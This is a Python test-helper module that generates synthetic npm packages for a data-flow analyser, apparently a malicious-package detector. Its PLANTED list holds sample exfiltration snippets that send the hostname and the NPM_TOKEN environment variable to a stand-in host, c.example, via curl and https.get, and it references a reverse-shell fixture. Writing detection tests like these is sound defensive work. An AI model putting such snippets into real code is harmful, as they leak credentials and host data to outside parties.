"""Synthetic package generators shared by the tests."""

from __future__ import annotations

import random
from pathlib import Path

from npmslice.cpg import assemble_cpg
from npmslice.ingest import PackageRef, SourceFile, SourceFileSet, count_lines

FIXTURES = Path(__file__).parent / "fixtures"
MICRO = FIXTURES / "micro"
REVERSE_SHELL = FIXTURES / "reverse_shell"


def cpg_of(files, pid: str = "pkg"):
    """Cpg for a dict path->text (or a single text as index.js)."""
    if isinstance(files, str):
        files = {"index.js": files}
    sfs = [SourceFile(p, t, count_lines(t)) for p, t in sorted(files.items())]
    return assemble_cpg(sfs, PackageRef(pid, pid))


def micro_packages() -> list[tuple[str, dict[str, str]]]:
    """(name, files) for every package of the shipped micro corpus."""
    out = []
    for pkg in sorted(p for p in MICRO.iterdir() if p.is_dir()):
        files = {f.relative_to(pkg).as_posix(): f.read_text() for f in sorted(pkg.rglob("*.js"))}
        out.append((pkg.name, files))
    return out


def file_set_of(files: dict[str, str], pid: str = "pkg", label: str = "unlabeled") -> SourceFileSet:
    sfs = tuple(SourceFile(p, t, count_lines(t)) for p, t in sorted(files.items()))
    return SourceFileSet(PackageRef(pid, pid, label), sfs, "ok")


def write_package(root: Path, files: dict[str, str | bytes]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for rel, body in files.items():
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(body, bytes):
            p.write_bytes(body)
        else:
            p.write_text(body)
    return root


_FILLER_STMTS = [
    "total = total + {i};",
    "let tmp{i} = Math.max(total, {i});",
    "items.push(tmp{i} * 2);",
    "if (total > {i}) {{ total = total - 1; }}",
    "for (let k{i} = 0; k{i} < 3; k{i}++) {{ total += k{i}; }}",
    "label{i} = 'item-' + {i};",
]


def filler_function(name: str, n_lines: int, rng: random.Random) -> list[str]:
    """A benign function body of roughly n_lines lines, free of catalog APIs."""
    out = [f"function {name}(items) {{", "  let total = 0;"]
    i = 0
    while len(out) < n_lines - 2:
        out.append("  " + rng.choice(_FILLER_STMTS).format(i=i))
        i += 1
    out += ["  return total;", "}"]
    return out


PLANTED = [
    ["function leakHost() {", "  const h = os.hostname();", "  cp.exec('curl http://c.example/' + h);", "}"],
    ["function leakEnv() {", "  const t = process.env.NPM_TOKEN;", "  const u = 'http://c.example/?t=' + t;",
     "  https.get(u);", "}"],
    ["function leakHome() {", "  const d = os.homedir();", "  fs.writeFileSync('/tmp/.x', d);", "}"],
]


def large_package(total_lines: int = 10_000, n_files: int = 10, seed: int = 7) -> dict[str, str]:
    """Benign filler split over several files, with three planted source-to-sink flows."""
    rng = random.Random(seed)
    per_file = total_lines // n_files
    files = {}
    for f in range(n_files):
        lines: list[str] = []
        if f < len(PLANTED):
            lines += PLANTED[f]
        j = 0
        while len(lines) < per_file - 1:
            size = min(rng.randint(20, 60), per_file - 1 - len(lines))
            if size < 4:
                break
            lines += filler_function(f"util{f}_{j}", size, rng)
            j += 1
        while len(lines) < per_file:
            lines.append("// end")
        files[f"lib/part{f:02d}.js"] = "\n".join(lines) + "\n"
    return files


def deep_nesting_package(depth: int = 120, diamonds: int = 16) -> dict[str, str]:
    """Deeply nested blocks around a long chain of diamonds on one variable.

    The number of distinct data-flow paths from the source to the sink
    doubles with every diamond, so small enumeration budgets run out.
    """
    lines = ["let x = os.hostname();"]
    for d in range(depth):
        lines.append("  " * d + f"if (c{d}) {{")
    ind = "  " * depth
    for k in range(diamonds):
        lines.append(f"{ind}if (f{k}) {{ x = x + 'a{k}'; }} else {{ x = x + 'b{k}'; }}")
    lines.append(f"{ind}cp.exec(x);")
    for d in reversed(range(depth)):
        lines.append("  " * d + "}")
    return {"index.js": "\n".join(lines) + "\n"}


def noise_package(seed: int) -> dict[str, str]:
    """Benign-looking package that uses catalog APIs for unrelated chores.

    Top-level statements read host facts and config, then ping a fixed URL or
    write a fixed log file: control flow passes from sources to sinks, but no
    data does.
    """
    rng = random.Random(seed)
    reads = [
        "const plat = os.platform();",
        "const cfgText = fs.readFileSync(path.join(__dirname, 'config.json'), 'utf8');",
        "const home = os.homedir();",
        "const cores = os.cpus().length;",
        "const started = Date.now();",
        "let retries = 3;",
    ]
    effects = [
        "https.get('https://registry.example/ping');",
        "fs.writeFileSync('build.log', 'ok');",
        "console.log('ready');",
    ]
    helpers = [
        "function lookup(cache, k) {",
        "  return cache.get(k);",
        "}",
        "function double(x) {",
        "  return x * 2;",
        "}",
    ]
    rng.shuffle(reads)
    body = ["const path = require('path');"] + helpers
    body += reads[: rng.randint(3, len(reads))]
    body += rng.sample(effects, rng.randint(1, len(effects)))
    body.append("module.exports = { lookup, double };")
    return {"index.js": "\n".join(body) + "\n"}


VARS = ("a", "b", "c")


def random_program(rng: random.Random, n_stmts: int = 8, depth: int = 0) -> list[str]:
    """Small random program over a few variables, with sources, sinks, branches and callbacks."""
    out = []
    for _ in range(n_stmts):
        r = rng.random()
        v, w = rng.choice(VARS), rng.choice(VARS)
        if r < 0.2:
            out.append(f"{v} = os.hostname();")
        elif r < 0.4:
            out.append(f"{v} = {w} + '{rng.randint(0, 9)}';")
        elif r < 0.55:
            out.append(f"cp.exec({v});")
        elif r < 0.65:
            out.append(f"let {v} = '{rng.randint(0, 9)}';")
        elif r < 0.75 and depth < 2:
            out.append(f"if ({w}) {{")
            out += ["  " + s for s in random_program(rng, rng.randint(1, 3), depth + 1)]
            if rng.random() < 0.5:
                out.append("} else {")
                out += ["  " + s for s in random_program(rng, rng.randint(1, 2), depth + 1)]
            out.append("}")
        elif r < 0.83 and depth < 2:
            out.append(f"while ({w}) {{")
            out += ["  " + s for s in random_program(rng, rng.randint(1, 2), depth + 1)]
            out.append("}")
        elif r < 0.92 and depth < 2:
            out.append("fs.readFile('f', function (d) {")
            out += ["  " + s for s in random_program(rng, rng.randint(1, 3), depth + 1)]
            out.append("});")
        else:
            out.append(f"{v}.k = {w};")
    return out
